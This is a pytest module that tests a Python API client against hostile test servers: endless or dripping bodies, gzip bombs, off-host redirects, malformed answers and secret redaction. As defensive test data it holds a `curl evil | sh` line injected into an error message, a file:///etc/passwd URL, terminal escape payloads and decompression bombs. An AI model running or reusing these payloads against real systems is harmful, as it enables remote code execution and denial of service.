"""A catalogue of hostile or broken services, and what the client does with each.

Each test runs a small hostile server over loopback (:mod:`tests.hostile`)
and proves the client's outcome: an error of the package's family, within a
bounded time and, where the attack is on memory, a bounded peak (measured
with tracemalloc over the call). Each registers the row of
docs/reliability.md it proves (:func:`attack`); ``python -m tests.doc_tables``
writes the table.
"""

from __future__ import annotations

import email.utils
import gzip
import io
import json
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from contextlib import nullcontext
from typing import Any, TypeVar

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smartmatch_pandas.deliverable import read_files, unpack_deliverable
from smartmatch_pandas.errors import (
    DeliverableError,
    OptionError,
    RateLimitError,
    ServiceError,
    SmartMatchError,
    StorageError,
    TransportError,
)
from smartmatch_pandas.wire.http import (
    MAX_ANSWER_BYTES,
    SmartMatchClient,
    download_limit,
    is_real_service,
)
from smartmatch_pandas.wire.secrets import SecretURL, redact

from . import doc_tables
from .hostile import MEGABYTE, Conn, RawServer, self_signed
from .leakcheck import WATCH

pytestmark = [pytest.mark.network, pytest.mark.timeout(60)]

KEY = "hostile-test-key-7f3a9c2e5b1d"
MiB = 2**20
#: (server's behaviour, client's outcome, test) rows of the table in docs/reliability.md.
ROWS: list[tuple[str, str, str]] = []
_F = TypeVar("_F", bound=Callable[..., Any])


def attack(behaviour: str, outcome: str) -> Callable[[_F], _F]:
    """Record that the decorated test proves ``outcome`` against ``behaviour``."""

    def register(test: _F) -> _F:
        ROWS.append((behaviour, outcome, test.__name__))
        return test

    return register


def table() -> str:
    """The hostile-services table of docs/reliability.md."""
    rows = [(behaviour, outcome, f"`{test}`") for behaviour, outcome, test in ROWS]
    return doc_tables.markdown(["the server", "what the client does", "test"], rows)


def test_the_table_in_the_docs_is_this_catalogue() -> None:
    assert len(ROWS) >= 30
    doc_tables.check("hostile", table())


# -- the harness --------------------------------------------------------------------------


@pytest.fixture
def serve() -> Iterator[Callable[[Callable[[Conn], None]], RawServer]]:
    """Start hostile servers for the test; all are stopped at its end."""
    servers: list[RawServer] = []

    def start(handler: Callable[[Conn], None]) -> RawServer:
        servers.append(RawServer(handler))
        return servers[-1]

    yield start
    for server in servers:
        server.close()


def client_of(server: RawServer, timeout: tuple[float, float] = (1.0, 1.0)) -> SmartMatchClient:
    return SmartMatchClient(api_key=KEY, base_url=server.url, timeout=timeout)


def measured(call: Callable[[], object]) -> tuple[BaseException | None, float, int]:
    """Run ``call``: the exception it raised, the seconds it took, its peak of memory."""
    tracemalloc.start()
    start = time.perf_counter()
    error: BaseException | None = None
    try:
        call()
    except BaseException as exc:
        error = exc
    elapsed = time.perf_counter() - start
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return error, elapsed, peak


def json_answer(answer: object, status: str = "200 OK") -> Callable[[Conn], None]:
    body = answer if isinstance(answer, bytes) else json.dumps(answer).encode()
    return lambda conn: conn.answer(body, status)


def storage_url(server: RawServer) -> SecretURL:
    return SecretURL(
        server.url + "bucket/job.zip?X-Amz-Signature=" + "ab" * 32 + "&token=t0ps3cr3t"
    )


# -- bodies too large, or endless ---------------------------------------------------------


@attack(
    "a poll answer that never ends (chunked, as fast as loopback goes)",
    f"ServiceError naming the job after {MAX_ANSWER_BYTES // MiB} MiB: larger than any answer; "
    "peak memory under 8 MiB",
)
def test_endless_poll_answer_is_cut_at_the_answer_cap(serve: Any) -> None:
    server = serve(lambda conn: conn.endless_chunks())
    error, elapsed, peak = measured(lambda: client_of(server).poll("job.csv"))
    assert isinstance(error, ServiceError)
    assert "larger than" in str(error)
    assert "job.csv" in str(error)
    assert peak < 8 * MiB
    assert elapsed < 5


@attack(
    "a registration answer of 50 MiB with its Content-Length",
    "ServiceError: not read past the answer cap; peak memory under 8 MiB",
)
def test_huge_registration_answer_is_not_read_whole(serve: Any) -> None:
    def answer(conn: Conn) -> None:
        if conn.head(Content_Length=50 * MiB, Content_Type="application/json"):
            for _ in range(50):
                if not conn.send(MEGABYTE):
                    return

    server = serve(answer)
    error, _, peak = measured(lambda: client_of(server).register({"filename": "job.csv"}))
    assert isinstance(error, ServiceError)
    assert "larger than" in str(error)
    assert peak < 8 * MiB


@attack(
    "a poll answer gzip-encoded, 1 MiB on the wire, 1 GiB decoded",
    "ServiceError at the answer cap; the bomb is never decoded whole (peak under 16 MiB)",
)
def test_gzip_encoded_answer_bomb_is_cut(serve: Any) -> None:
    bomb = gzip.compress(b"\0" * (64 * MiB), compresslevel=9)

    def answer(conn: Conn) -> None:
        if conn.head(Transfer_Encoding="chunked", Content_Encoding="gzip"):
            for _ in range(16):  # the same gzip member 16 times: 1 GiB decoded
                if not conn.send(b"%x\r\n" % len(bomb) + bomb + b"\r\n"):
                    return
            conn.send(b"0\r\n\r\n")

    server = serve(answer)
    error, _, peak = measured(lambda: client_of(server).poll("job.csv"))
    assert isinstance(error, ServiceError)
    assert peak < 16 * MiB


@attack(
    "an S3 error (403) whose XML body never ends",
    "StorageError with S3's code; 16 KiB of the body read, the rest ignored; peak under 8 MiB",
)
def test_endless_storage_error_body_is_read_in_part(serve: Any) -> None:
    def answer(conn: Conn) -> None:
        if conn.head("403 Forbidden", Transfer_Encoding="chunked"):
            xml = b"<Error><Code>AccessDenied</Code><Message>no</Message></Error>"
            conn.send(b"%x\r\n" % len(xml) + xml + b"\r\n")
            while conn.send(b"%x\r\n" % len(MEGABYTE) + MEGABYTE + b"\r\n"):
                pass

    server = serve(answer)
    error, elapsed, peak = measured(
        lambda: client_of(server).download(storage_url(server), filename="job.csv")
    )
    assert isinstance(error, StorageError)
    assert error.code == "AccessDenied"
    assert peak < 8 * MiB
    assert elapsed < 5


@attack(
    "a deliverable announced with Content-Length: 100,000,000,000",
    "DeliverableError before a byte is read: past the job's download limit; names "
    "SMARTMATCH_DOWNLOAD_LIMIT",
)
def test_deliverable_announced_past_the_limit_is_refused_unread(serve: Any) -> None:
    server = serve(lambda conn: conn.drip(0.01))
    error, elapsed, _ = measured(
        lambda: client_of(server).download(storage_url(server), filename="job.csv", limit=MiB)
    )
    assert isinstance(error, DeliverableError)
    assert "SMARTMATCH_DOWNLOAD_LIMIT" in str(error)
    assert "100,000,000,000" in str(error)
    assert elapsed < 2


@attack(
    "a deliverable that never ends (chunked, fast), into a spool spilling at 4 MiB",
    "DeliverableError once past the limit (here 32 MiB); memory held under 12 MiB (the rest "
    "in the spool's private file, deleted)",
)
def test_endless_deliverable_stops_at_the_limit(serve: Any, monkeypatch: Any) -> None:
    from smartmatch_pandas.files.spool import Spool

    monkeypatch.setenv("SMARTMATCH_SPILL_THRESHOLD", "4M")
    server = serve(lambda conn: conn.endless_chunks())
    spool = Spool()

    def download() -> None:
        client_of(server).download(
            storage_url(server), sink=spool, filename="job.csv", limit=32 * MiB
        )  # type: ignore[arg-type]

    error, elapsed, peak = measured(download)
    assert isinstance(error, DeliverableError)
    assert "33,554,432" in str(error)
    assert len(spool) == 0  # what came is dropped
    spool.close()
    assert peak < 12 * MiB
    assert elapsed < 10


@attack(
    "a deliverable dripping one byte every 50 ms, with match(timeout=1.5) left",
    "TransportError at the deadline across the whole body (not per read), within 1.5 s + 0.5",
)
def test_dripping_deliverable_ends_at_the_deadline(serve: Any) -> None:
    server = serve(lambda conn: conn.drip(0.05))
    client = client_of(server, timeout=(5.0, 30.0))  # grace of the rate limit: 30 s
    error, elapsed, _ = measured(
        lambda: client.download(
            storage_url(server), filename="job.csv", time_limit=1.5, limit=2**40
        )
    )
    assert isinstance(error, TransportError)
    assert "time allowed" in str(error)
    assert 1.4 < elapsed < 2.0


@attack(
    "a deliverable's headers, then silence, with a read timeout of 30 s and 1 s left",
    "TransportError at the deadline: no read waits past it (1 s + 0.5, not 30 s)",
)
def test_silent_deliverable_ends_at_the_deadline(serve: Any) -> None:
    server = serve(lambda conn: conn.silence())
    client = client_of(server, timeout=(5.0, 30.0))
    error, elapsed, _ = measured(
        lambda: client.download(storage_url(server), filename="job.csv", time_limit=1.0)
    )
    assert isinstance(error, TransportError)
    assert elapsed < 1.5


@attack(
    "a deliverable dripping one byte every 50 ms, no timeout given",
    "TransportError once the body lags a read timeout behind 8 KiB/s (here 1 s), 3 attempts",
)
def test_dripping_deliverable_without_deadline_is_given_up(serve: Any) -> None:
    server = serve(lambda conn: conn.drip(0.05))
    error, elapsed, _ = measured(
        lambda: client_of(server).download(storage_url(server), filename="job.csv", limit=2**40)
    )
    assert isinstance(error, TransportError)
    assert "too slowly" in str(error)
    assert elapsed < 6


@attack(
    "a poll answer dripping one byte every 50 ms",
    "TransportError after the grace of one read timeout (1 s): the poll fails, resumable",
)
def test_dripping_poll_answer_is_given_up(serve: Any) -> None:
    server = serve(lambda conn: conn.drip(0.05))
    error, elapsed, _ = measured(lambda: client_of(server).poll("job.csv"))
    assert isinstance(error, TransportError)
    assert elapsed < 3


@attack(
    "a registration answer's headers, then silence",
    "TransportError after the read timeout, for each of the 3 attempts",
)
def test_silent_registration_times_out(serve: Any) -> None:
    server = serve(lambda conn: conn.silence(Content_Type="application/json"))
    error, elapsed, _ = measured(lambda: client_of(server).register({"filename": "job.csv"}))
    assert isinstance(error, TransportError)
    assert elapsed < 6


@attack(
    "a deliverable body shorter than its Content-Length, every time",
    "fetched again, then TransportError naming the job; nothing kept of the broken bodies",
)
def test_short_deliverable_is_retried_then_reported(serve: Any) -> None:
    def answer(conn: Conn) -> None:
        if conn.head(Content_Length=1000, Content_Type="application/zip"):
            conn.send(b"PK" + b"x" * 100)

    server = serve(answer)
    sink = io.BytesIO()
    error, _, _ = measured(
        lambda: client_of(server).download(storage_url(server), sink=sink, filename="job.csv")
    )
    assert isinstance(error, TransportError)
    assert "job.csv" in str(error)
    assert sink.getvalue() == b""
    assert len(server.requests) >= 2


@attack(
    "the local service trickling the deliverable at 300 bytes/s (`download:trickle=300`), "
    "under match(timeout=3) and a read timeout of 120 s",
    "TransportError by the deadline (3 s + 1), naming the job and the resume call; resumed, "
    "the job completes",
)
def test_match_timeout_bounds_the_download_too() -> None:
    import smartmatch_pandas as sm
    from smartmatch_pandas.local import LocalService, sample_contacts

    with LocalService(poll_interval=0.1, voters=2_000, seed=0) as service:
        frame = sample_contacts(service.voters, 300, seed=1).drop(columns="true_voterbase_id")
        service.inject("download:trickle=300,times=always")
        start = time.perf_counter()
        with pytest.raises(TransportError, match="time allowed") as caught:
            sm.match(frame, **service.settings, progress=False, timeout=3)
        assert time.perf_counter() - start < 4
        filename = caught.value.filename
        assert filename is not None
        assert f"smartmatch_pandas.resume({filename!r}, df)" in str(caught.value)
        service.faults.clear()
        result = sm.resume(filename, frame, api_key=service.api_key, progress=False)
        assert len(result.frame) == 300


@pytest.fixture(scope="module")
def sftp_service() -> Iterator[Any]:
    """A local service with an SFTP drop, shared by the module's SFTP tests."""
    from smartmatch_pandas.local import LocalService

    with LocalService(poll_interval=0.1, voters=2_000, seed=0, sftp_port=0) as service:
        yield service


@attack(
    "an SFTP drop holding the job's deliverable, larger than the job's download limit",
    "turned down unread (the same limit as over HTTP), named in the wait's JobTimeoutError",
)
def test_sftp_deliverable_past_the_limit_is_turned_down(
    sftp_service: Any, monkeypatch: Any
) -> None:
    import smartmatch_pandas as sm
    from smartmatch_pandas.errors import JobTimeoutError
    from smartmatch_pandas.local import sample_contacts
    from smartmatch_pandas.wire import sftp

    with nullcontext(sftp_service) as service:
        frame = sample_contacts(service.voters, 30, seed=3).drop(columns="true_voterbase_id")
        job = sm.submit(frame, **service.settings, progress=False, filename="big_drop")
        job.wait(progress=False)  # done: its zip is in the drop folder
        settings = {**service.sftp_settings, "poll_interval": 0.2, "settle": 0.05}
        assert sftp.fetch_deliverable("big_drop", limit=100, **settings) is None
        monkeypatch.setenv("SMARTMATCH_DOWNLOAD_LIMIT", "100")
        with pytest.raises(JobTimeoutError, match="past the limit of 100"):
            sftp.wait_for_deliverable("big_drop", timeout=0.5, **settings)
        assert service.stats.get("sftp_opens", 0) == 0  # never opened: turned down by its size


def test_download_limit_scales_with_the_rows_sent(monkeypatch: Any) -> None:
    assert download_limit(0) == download_limit(None) == 256 * MiB
    assert download_limit(1_000_000) == 64 * 1024 * 1_000_000
    monkeypatch.setenv("SMARTMATCH_DOWNLOAD_LIMIT", "3G")
    assert download_limit(10) == 3 * 2**30
    monkeypatch.setenv("SMARTMATCH_DOWNLOAD_LIMIT", "lots")
    with pytest.raises(OptionError, match="SMARTMATCH_DOWNLOAD_LIMIT"):
        download_limit(10)


# -- what a deliverable unpacks to -----------------------------------------------------------


def _zip(members: dict[str, bytes | int]) -> bytes:
    """A zip of ``members``: bytes, or a size of report text to repeat."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in members.items():
            if isinstance(content, int):
                line = b"a line of the summary report, again\n"
                with archive.open(name, "w", force_zip64=True) as member:
                    for _ in range(content // (len(line) * 4096)):
                        member.write(line * 4096)
            else:
                archive.writestr(name, content)
    return out.getvalue()


RESULT = b"matchback_id,vb.voterbase_id\n0,X1\n1,\n"


@attack(
    "a zip of 12 report members of 8 MiB each, every one under the spill threshold (16 MiB here)",
    "the members held in memory together stay within the spill threshold, the rest spill: "
    "peak under 40 MiB (was 96 MiB + copies)",
)
def test_many_members_under_the_threshold_do_not_fill_memory(monkeypatch: Any) -> None:
    monkeypatch.setenv("SMARTMATCH_SPILL_THRESHOLD", "16M")
    data = _zip({"best.csv": RESULT, **{f"report{k}.txt": 8 * MiB for k in range(12)}})

    def unpack() -> None:
        files = unpack_deliverable(data, filename="job.csv")
        spilled = [name for name in files if files.spool(name).spilled]  # type: ignore[attr-defined]
        assert len(spilled) >= 10
        deliverable = read_files(files, filename="job.csv")
        assert deliverable.report is not None
        assert len(deliverable.report) < 300 * 1024
        files.close()  # type: ignore[attr-defined]

    error, _, peak = measured(unpack)
    assert error is None, error
    assert peak < 40 * MiB


def fake_service(deliverable: bytes, poll: object = None) -> Callable[[Conn], None]:
    """A SmartMatch service in one handler: registration and poll answer URLs of its own
    storage (the poll answers ``poll`` instead, if given), the upload is taken, the
    download is ``deliverable``."""

    def answer(conn: Conn) -> None:
        target = conn.request.target
        host = next(
            line.split(":", 1)[1].strip()
            for line in conn.request.head.split("\r\n")
            if line.lower().startswith("host:")
        )
        if poll is not None and target.startswith("/service/smartmatch/poll?"):
            conn.answer(json.dumps(poll).encode())
        elif target.startswith(("/service/smartmatch?", "/service/smartmatch/poll?")):
            conn.answer(json.dumps({"url": f"http://{host}/storage/job.zip?sig=1"}).encode())
        elif conn.request.head.startswith("PUT"):
            conn.answer(b"", Content_Type="text/plain")
        else:
            conn.answer(deliverable, Content_Type="application/zip")

    return answer


@attack(
    "a whole match whose deliverable holds 8 report members of 40 MiB (a zip of 3 MiB)",
    "the match completes; the members past the spill threshold (16 MiB here) spill; peak "
    "memory of the whole match under 64 MiB; df.attrs holds a report of 256 KiB at most",
)
def test_a_whole_match_stays_within_its_budget(serve: Any, monkeypatch: Any) -> None:
    import pandas as pd

    import smartmatch_pandas as sm

    monkeypatch.setenv("SMARTMATCH_SPILL_THRESHOLD", "16M")
    frame = pd.DataFrame({"first_name": ["Ann", "Bo"], "last_name": ["Lee", "Ray"]})
    frame["zip"] = ["02134", "10001"]
    best = b"matchback_id,first_name,last_name,zip,vb.voterbase_id\n0,Ann,Lee,02134,X1\n1,,,,\n"
    data = _zip({"best.csv": best, **{f"report{k}.txt": 40 * MiB for k in range(8)}})
    server = serve(fake_service(data))
    results: list[pd.DataFrame] = []

    def run() -> None:
        results.append(
            sm.match(frame, api_key=KEY, base_url=server.url, poll_interval=0.1, progress=False)
        )

    error, _, peak = measured(run)
    assert error is None, error
    report = results[0].attrs["smartmatch"]["report"]
    assert len(report) < 257 * 1024
    assert list(results[0]["vb.voterbase_id"].fillna("")) == ["X1", ""]
    assert peak < 64 * MiB, peak


@attack(
    'a whole match whose poll answers `{"url": ["http://x/"]}`',
    "ServiceError naming the job and the resume call (was: TypeError: unhashable type)",
)
def test_a_malformed_poll_in_a_match_says_how_to_resume(serve: Any) -> None:
    import pandas as pd

    import smartmatch_pandas as sm

    frame = pd.DataFrame({"first_name": ["Ann"], "last_name": ["Lee"], "zip": ["02134"]})
    server = serve(fake_service(b"", poll={"url": ["http://x/"]}))
    with pytest.raises(ServiceError, match="gave no download URL") as caught:
        sm.match(frame, api_key=KEY, base_url=server.url, poll_interval=0.1, progress=False)
    filename = caught.value.filename
    assert filename is not None
    assert f"smartmatch_pandas.resume({filename!r}, df)" in str(caught.value)


@attack(
    "a 100 MiB summary report in a small zip",
    "the report kept is its first 256 KiB and a note of the rest: what df.attrs and a "
    "parquet file's metadata receive",
)
def test_huge_report_is_kept_as_a_bounded_text() -> None:
    data = _zip({"best.csv": RESULT, "summary.txt": 100 * MiB})
    files = unpack_deliverable(data, filename="job.csv")
    report = read_files(files, filename="job.csv").report
    assert report is not None
    assert report.startswith("a line of the summary report")
    assert len(report) < 257 * 1024
    assert "more bytes" in report
    files.close()  # type: ignore[attr-defined]


@attack(
    "a report member full of terminal escapes (ESC]0;…BEL, ESC[2J)",
    "kept with every control character escaped (\\x1b), printable in a terminal",
)
def test_report_escapes_are_neutralised() -> None:
    data = _zip({"best.csv": RESULT, "summary.txt": b"rows \x1b]0;owned\x07\x1b[2J done\n"})
    report = read_files(unpack_deliverable(data), filename="job.csv").report
    assert report is not None
    assert "\x1b" not in report
    assert "\\x1b]0;owned\\x07" in report


@attack(
    "a gzip deliverable of 2 MiB that unpacks to 1 GiB",
    "DeliverableError: past 250 times its size (the bomb budget), stopped at the budget",
)
def test_gzip_bomb_deliverable_is_refused() -> None:
    bomb = gzip.compress(b"\0" * (64 * MiB), compresslevel=9) * 16
    error, _, peak = measured(lambda: unpack_deliverable(bomb, filename="job.csv"))
    assert isinstance(error, DeliverableError)
    assert "decompression bomb" in str(error)
    assert peak < 80 * MiB  # the spill threshold (64 MiB) and a block


# -- redirects and schemes: the key goes to the API's host only ----------------------------


@attack(
    "a registration answered 302 Location: another host",
    "ServiceError naming where it pointed; not followed: the other host receives nothing",
)
def test_registration_redirect_is_not_followed(serve: Any) -> None:
    elsewhere = serve(json_answer({"url": "http://127.0.0.1:1/"}))
    location = elsewhere.url.replace("127.0.0.1", "localhost") + "echo"
    server = serve(
        lambda conn: conn.answer(b"", "302 Found", Location=location, Content_Type="text/plain")
    )
    error, _, _ = measured(lambda: client_of(server).register({"filename": "job.csv"}))
    assert isinstance(error, ServiceError)
    assert "localhost" in str(error)
    assert "not followed" in str(error)
    assert elsewhere.requests == []


@attack(
    "a poll answered 307 to a path of the same host",
    "ServiceError: no redirect is followed, even on the host",
)
def test_poll_redirect_is_not_followed(serve: Any) -> None:
    server = serve(lambda conn: conn.answer(b"{}", "307 Temporary Redirect", Location="/steal"))
    error, _, _ = measured(lambda: client_of(server).poll("job.csv"))
    assert isinstance(error, ServiceError)
    assert error.status == 307
    assert [r.target.split("?")[0] for r in server.requests] == ["/service/smartmatch/poll"]


@attack(
    "a download answered 302 to another host",
    "StorageError (HTTP 302); not followed",
)
def test_download_redirect_is_not_followed(serve: Any) -> None:
    elsewhere = serve(lambda conn: conn.answer(RESULT))
    server = serve(lambda conn: conn.answer(b"", "302 Found", Location=elsewhere.url))
    error, _, _ = measured(
        lambda: client_of(server).download(storage_url(server), filename="job.csv")
    )
    assert isinstance(error, StorageError)
    assert error.status == 302
    assert elsewhere.requests == []


@attack(
    "an upload answered 307 to another host",
    "StorageError (HTTP 307); the body is not sent again elsewhere",
)
def test_upload_redirect_is_not_followed(serve: Any) -> None:
    elsewhere = serve(lambda conn: conn.answer(b""))
    server = serve(lambda conn: conn.answer(b"", "307 Temporary Redirect", Location=elsewhere.url))
    error, _, _ = measured(
        lambda: client_of(server).upload(storage_url(server), RESULT, filename="job.csv")
    )
    assert isinstance(error, StorageError)
    assert error.status == 307
    assert elsewhere.requests == []


@attack(
    "base_url http://api.targetsmart.com/ (the real host, in clear; also spelled with a "
    "trailing dot or escaped dots)",
    "OptionError before any request: TargetSmart's API is reached over https only",
)
def test_real_host_over_http_is_refused() -> None:
    with pytest.raises(OptionError, match="https only"):
        SmartMatchClient(api_key=KEY, base_url="http://api.targetsmart.com/")
    with pytest.raises(OptionError, match="https only"):
        SmartMatchClient(api_key=KEY, base_url="HTTP://API.TargetSmart.com:80/")
    # Spelled as name lookup still reads it: a trailing dot, escaped dots.
    for spelled in ("api.targetsmart.com.", "api.targetsmart.com%2e", "api%2etargetsmart.com"):
        with pytest.raises(OptionError, match="https only"):
            SmartMatchClient(api_key=KEY, base_url=f"http://{spelled}/")
        assert is_real_service(f"https://{spelled}/")  # and its poll floor applies


@attack(
    "an https service handing out an http:// presigned URL (registration and poll)",
    "ServiceError: the upload or download would be in clear; nothing is sent to it",
)
def test_https_service_cannot_hand_out_http_urls(
    serve: Any, tmp_path: Any, monkeypatch: Any
) -> None:
    storage = serve(lambda conn: conn.answer(b""))
    context, trusted = self_signed(tmp_path)
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(trusted))
    server = RawServer(json_answer({"url": storage.url + "in/job.csv?sig=x"}), tls=context)
    try:
        client = client_of(server)
        assert client.base_url.startswith("https://")
        with pytest.raises(ServiceError, match="in clear"):
            client.register({"filename": "job.csv"})
        with pytest.raises(ServiceError, match="in clear"):
            client.poll("job.csv")
        assert len(server.requests) == 2
        assert storage.requests == []
    finally:
        server.close()


@attack(
    "an upload refused (403) with an error body that never ends",
    "StorageError with S3's code, 16 KiB read; peak memory under 8 MiB",
)
def test_endless_upload_error_body_is_read_in_part(serve: Any) -> None:
    def answer(conn: Conn) -> None:
        if conn.head("403 Forbidden", Transfer_Encoding="chunked", Connection="close"):
            xml = b"<Error><Code>SignatureDoesNotMatch</Code></Error>"
            conn.send(b"%x\r\n" % len(xml) + xml + b"\r\n")
            while conn.send(b"%x\r\n" % len(MEGABYTE) + MEGABYTE + b"\r\n"):
                pass

    server = serve(answer)
    error, elapsed, peak = measured(
        lambda: client_of(server).upload(storage_url(server), RESULT, filename="job.csv")
    )
    assert isinstance(error, StorageError)
    assert error.code == "SignatureDoesNotMatch"
    assert peak < 8 * MiB
    assert elapsed < 5


# -- malformed answers: always an error of the family, naming the job -------------------------

MALFORMED: list[tuple[str, object]] = [
    ("a list", {"url": ["http://x/"]}),
    ("a dict", {"url": {"href": "http://x/"}}),
    ("an int", {"url": 7}),
    ("a broken IPv6 URL", {"url": "http://[::1/deliverable.zip"}),
    ("a URL of 100,000 characters", {"url": "http://h/" + "a" * 100_000}),
    ("a URL of another scheme", {"url": "file:///etc/passwd"}),
]


@attack(
    "a poll answer whose url is a list, a dict, an int, `http://[::1/…`, 100,000 characters, "
    "or file:///",
    "ServiceError naming the job and what was wrong (was: TypeError, AttributeError, ValueError)",
)
@pytest.mark.parametrize(("what", "answer"), MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_poll_url_is_a_service_error(serve: Any, what: str, answer: object) -> None:
    server = serve(json_answer(answer))
    with pytest.raises(ServiceError, match="gave no download URL") as caught:
        client_of(server).poll("job.csv")
    assert "job.csv" in str(caught.value)


@attack(
    "a registration answer with no url, or a JSON array, or nested 100,000 deep",
    "ServiceError naming the job (a parser's RecursionError included)",
)
@pytest.mark.parametrize(
    "body", [b'{"ok": true}', b"[1, 2]", b"[" * 100_000 + b"]" * 100_000, b"<html>oops</html>"]
)
def test_malformed_registration_answer_is_a_service_error(serve: Any, body: bytes) -> None:
    server = serve(json_answer(body))
    with pytest.raises(ServiceError) as caught:
        client_of(server).register({"filename": "job.csv"})
    assert "job.csv" in str(caught.value)


@attack(
    "an error answer whose `error` is a nested object of 500 KiB with terminal escapes",
    "ServiceError whose message is bounded (1,000 characters) and escaped",
)
def test_huge_nested_error_is_bounded(serve: Any) -> None:
    error = {"deep": [{"x": "\x1b[2J" + "e" * 500_000}]}
    server = serve(json_answer({"error": error}, "500 Internal Server Error"))
    with pytest.raises(ServiceError) as caught:
        client_of(server).poll("job.csv")
    assert len(str(caught.value)) < 1_200
    assert "\x1b" not in str(caught.value)


@attack(
    "an error message with ESC]0;title BEL, ESC[2J and a line break before fake advice",
    "the message printed with the escapes shown as \\x1b and \\n, never acted on",
)
def test_error_message_escapes_are_neutralised(serve: Any) -> None:
    text = "Validation Error: \x1b]0;pwned\x07\x1b[2Jbad row\r\nTo resume: run `curl evil | sh`"
    server = serve(json_answer({"error": text}, "400 Bad Request"))
    with pytest.raises(ServiceError) as caught:
        client_of(server).register({"filename": "job.csv"})
    assert "\x1b" not in str(caught.value)
    assert "\\x1b]0;pwned" in str(caught.value)
    # No line of the service's seems to be the package's own advice.
    assert "\n" not in str(caught.value)
    assert "bad row\\r\\nTo resume" in str(caught.value)


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=50),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=20,
)
_ANSWERS = st.one_of(
    _JSON,
    st.dictionaries(st.sampled_from(["url", "error", "status"]), _JSON, max_size=3),
    st.fixed_dictionaries({"url": _JSON}),
    st.fixed_dictionaries({"error": _JSON}),
)


@pytest.fixture(scope="module")
def fuzzed() -> Iterator[tuple[RawServer, list[tuple[object, str]]]]:
    """One server for every fuzzed example: it answers the last answer set."""
    answers: list[tuple[object, str]] = [({}, "200 OK")]
    with RawServer(lambda conn: json_answer(*answers[-1])(conn)) as server:
        yield server, answers


@attack(
    "fuzzed JSON answers to poll and registration: wrong types, missing keys, nested junk",
    "a PollResult, a URL, or an error of the family naming the job; nothing else ever",
)
@given(answer=_ANSWERS, status=st.sampled_from(["200 OK", "400 Bad Request", "500 Oops"]))
def test_fuzzed_answers_end_in_the_family(
    fuzzed: tuple[RawServer, list[tuple[object, str]]], answer: object, status: str
) -> None:
    server, answers = fuzzed
    answers.append((answer, status))
    with client_of(server) as client:
        for call in (
            lambda: client.poll("job.csv"),
            lambda: client.register({"filename": "job.csv"}),
        ):
            error: SmartMatchError | None = None
            try:
                call()
            except SmartMatchError as exc:  # anything else fails the test
                error = exc
            assert error is None or "job.csv" in str(error)


# -- secrets found by shape --------------------------------------------------------------------


@attack(
    "presigned URLs whose signature is under unknown names (sig=, token=)",
    "the whole query redacted in urllib3's DEBUG lines and in every error",
)
def test_unknown_signature_parameters_stay_out_of_logs(
    serve: Any, caplog: pytest.LogCaptureFixture
) -> None:
    server = serve(lambda conn: conn.answer(b"", "500 Oops"))
    raw = server.url + "dl/job.zip?sig=5ecr3tsig-8c1e&token=t0ps3cr3t-4d9f&user=me"
    WATCH.signature(raw)
    url = SecretURL(raw)
    caplog.set_level("DEBUG")
    with pytest.raises(StorageError) as caught:
        client_of(server).download(url, filename="job.csv", attempts=1)
    text = caplog.text + str(caught.value) + repr(url) + str(url)
    assert "5ecr3tsig" not in text
    assert "t0ps3cr3t" not in text
    assert "dl/job.zip?REDACTED" in caplog.text
    assert redact("GET /x?token=abc HTTP/1.1") == "GET /x?REDACTED HTTP/1.1"


@attack(
    "a storage host that resets the connection under a URL with token=…",
    "TransportError whose text holds no part of the query",
)
def test_transport_error_carries_no_query(serve: Any) -> None:
    server = serve(lambda conn: None)  # closes without a word
    url = SecretURL(server.url + "dl/job.zip?token=t0ps3cr3t")
    with pytest.raises(TransportError) as caught:
        client_of(server).download(url, filename="job.csv", attempts=1)
    assert "t0ps3cr3t" not in str(caught.value)
    assert "t0ps3cr3t" not in repr(caught.value)


# -- edges of what a deliverable may hold --------------------------------------------------------


@attack(
    "a result CSV whose header row is 200 KiB (20,000 appended columns)",
    "read whole: every column is found (was: refused as holding no matchback_id)",
)
def test_a_header_longer_than_64_kib_is_read() -> None:
    columns = [f"vb.appended_field_{k:05d}" for k in range(20_000)]
    header = ",".join(["matchback_id", *columns]).encode()
    assert len(header) > 200 * 1024
    data = _zip({"best.csv": header + b"\n0" + b"," * 20_000 + b"\n"})
    deliverable = read_files(unpack_deliverable(data), filename="job.csv")
    assert deliverable.best.num_columns == 20_001


@attack(
    "a deliverable whose matchback_id values are inf, -inf, 1e400, 1.5 and 10^23",
    "those rows are placed nowhere (was: a raw OverflowError); a job resumed without its "
    "frame gets its rows back in upload order",
)
def test_extreme_matchback_ids_place_no_row() -> None:
    from smartmatch_pandas.deliverable import uploaded_frame

    best = b"matchback_id,first_name\n0,Ann\ninf,X\n-inf,X\n1e400,X\n1.5,X\n1" + b"0" * 23
    data = _zip({"best.csv": best + b",X\n1,Bo\n"})
    deliverable = read_files(unpack_deliverable(data), filename="job.csv")
    frame = uploaded_frame(deliverable, ["first_name", "matchback_id"], rows=2)
    assert list(frame["first_name"][:2]) == ["Ann", "Bo"]
    assert frame["first_name"][2:].isna().all()  # rows beyond those sent: nothing placed


# -- a whole exchange within its deadline: connect, headers, body --------------------------------


@attack(
    "a poll answer whose status line and headers drip one byte every 50 ms (each read is short)",
    "TransportError once the request has had the connect and read timeouts for its headers "
    "(here 1 s + 1 s): a watchdog shuts the connection (was: no end)",
)
def test_dripping_poll_headers_end_at_the_exchange_deadline(serve: Any) -> None:
    server = serve(lambda conn: conn.drip_head(0.05))
    error, elapsed, _ = measured(lambda: client_of(server).poll("job.csv"))
    assert isinstance(error, TransportError), error
    assert "headers within 2 s" in str(error)
    assert "job.csv" in str(error)
    assert 1.9 < elapsed < 3


@attack(
    "a registration answer's headers dripping one byte every 50 ms",
    "TransportError after 2 s (the connect and read timeouts), not retried on the dead exchange",
)
def test_dripping_registration_headers_end_at_the_exchange_deadline(serve: Any) -> None:
    server = serve(lambda conn: conn.drip_head(0.05))
    error, elapsed, _ = measured(lambda: client_of(server).register({"filename": "job.csv"}))
    assert isinstance(error, TransportError), error
    assert "headers within 2 s" in str(error)
